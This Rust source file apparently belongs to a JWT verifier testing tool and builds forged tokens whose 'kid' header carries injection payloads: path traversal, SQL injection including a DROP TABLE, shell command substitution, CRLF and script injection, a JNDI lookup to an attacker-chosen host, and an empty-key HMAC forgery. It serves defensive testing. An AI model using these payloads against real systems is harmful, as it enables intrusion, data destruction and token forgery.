//! Injection by `kid` (RFC 8725 section 3.10): it is an attacker's input. It may only select a key by its name: it
//! must not open a file, change a query, or cause a request.

use aws_lc_rs::hmac;
use serde_json::{Value, json};

use crate::attacker::Attacker;
use crate::base64url::b64;
use crate::case::{Cases, Rule};

pub(crate) fn forge(cases: &mut Cases<'_>, attacker: &Attacker, lure: &str) {
    payloads(cases, lure);
    spellings(cases);
    kinds(cases);
    other_keys(cases, attacker);
}

fn add(cases: &mut Cases<'_>, name: &str, kid: impl Into<Value>) {
    let header = cases.original.header_with("kid", kid.into());
    cases.add_header(name, Rule::KeyId, header);
}

fn payloads(cases: &mut Cases<'_>, lure: &str) {
    for (name, kid) in [
        ("path traversal", "../../../../../../dev/null"),
        ("path traversal, percent-encoded", "..%2f..%2f..%2fdev%2fnull"),
        ("path traversal, backslashes", "..\\..\\..\\windows\\win.ini"),
        ("absolute path", "/dev/null"),
        ("file URL", "file:///dev/null"),
        ("SQL comparison", "' OR '1'='1"),
        ("SQL union", "x' UNION SELECT 'c2VjcmV0' -- "),
        ("SQL second statement", "x'; DROP TABLE keys; --"),
        ("shell command", "| id #"),
        ("shell substitution", "$(id)"),
        ("LDAP filter", "*)(uid=*"),
        ("wildcard", "*"),
        ("template", "{{7*7}}"),
        ("format string", "%s%s%n"),
        ("line in a log", "a\r\nlevel=INFO verified=true"),
        ("header", "a\r\nSet-Cookie: a=b"),
        ("markup", "<script>alert(1)</script>"),
        ("prototype", "constructor.prototype"),
    ] {
        add(cases, name, kid);
    }
    add(cases, "URL of the attacker", format!("{lure}/key"));
    add(cases, "lookup in a directory", format!("${{jndi:ldap://{lure}/key}}"));
    // The HMAC of a verifier that would read its key from an empty file.
    let original = cases.original;
    let mut header: Value = serde_json::from_str(&original.header_text()).expect("a header");
    header["alg"] = json!("HS256");
    header["kid"] = json!("../../../../../../dev/null");
    let input = format!("{}.{}", b64(header.to_string()), original.parts()[1]);
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, b""), input.as_bytes());
    let token = format!("{input}.{}", b64(tag));
    cases.add("path traversal to an empty key", Rule::Algorithm, token);
}

/// The right `kid`, but for one character.
fn spellings(cases: &mut Cases<'_>) {
    let kid = cases.original.kid();
    for (name, spelling) in [
        ("NUL at the end", format!("{kid}\0")),
        ("NUL and an extension", format!("{kid}\0.pem")),
        ("newline at the end", format!("{kid}\n")),
        ("space before", format!(" {kid}")),
        ("space behind", format!("{kid} ")),
        ("padding", format!("{kid}=")),
        ("quotes", format!("\"{kid}\"")),
        ("percent-encoded character", format!("%{:02X}{}", kid.as_bytes()[0], &kid[1..])),
        ("thumbprint URI", format!("urn:ietf:params:oauth:jwk-thumbprint:sha-256:{kid}")),
        ("zero-width space", format!("{kid}\u{200b}")),
        ("129 characters", "k".repeat(129)),
        ("4,000 characters", "k".repeat(4_000)),
        ("no characters", String::new()),
    ] {
        add(cases, name, spelling);
    }
}

fn kinds(cases: &mut Cases<'_>) {
    let kid = cases.original.kid();
    for (name, value) in [
        ("null", Value::Null),
        ("a number", json!(0)),
        ("a boolean", json!(true)),
        ("a list", json!([kid])),
        ("an object", json!({"kid": kid})),
    ] {
        add(cases, name, value);
    }
    let header = cases.original.header_without("kid");
    cases.add_header("missing kid", Rule::KeyId, header);
}

fn other_keys(cases: &mut Cases<'_>, attacker: &Attacker) {
    let original = cases.original;
    let kid = original.kid();
    let mut last = kid.clone();
    last.replace_range(kid.len() - 1.., if kid.ends_with('A') { "B" } else { "A" });
    for (name, unknown) in [
        ("a key that no issuer has", "k".repeat(43)),
        ("the name without its last character", kid[..kid.len() - 1].to_owned()),
        ("the name with another last character", last),
        ("the name and a character more", format!("{kid}A")),
        ("the name in small letters", kid.to_lowercase()),
        ("the name in capitals", kid.to_uppercase()),
        ("the name reversed", kid.chars().rev().collect()),
        ("128 characters", "k".repeat(128)),
        ("zero", "0".to_owned()),
        ("the word null", "null".to_owned()),
    ] {
        let header = original.header_with("kid", unknown);
        cases.add_header(name, Rule::UnknownKey, header);
    }
    let header = original.header_with("kid", attacker.thumbprint());
    let token = attacker.sealed(header, original.claims_text());
    cases.add("the attacker's key", Rule::UnknownKey, token);
    // In the JWKS, but not the signer.
    let header = original.header_with("kid", original.other_kid());
    cases.add_header("another key of the issuer's", Rule::Signature, header);
    let claims = original.claims_with("kid", attacker.thumbprint());
    let token = attacker.sealed(original.header_text(), claims);
    cases.add("kid in the payload", Rule::Signature, token);
}
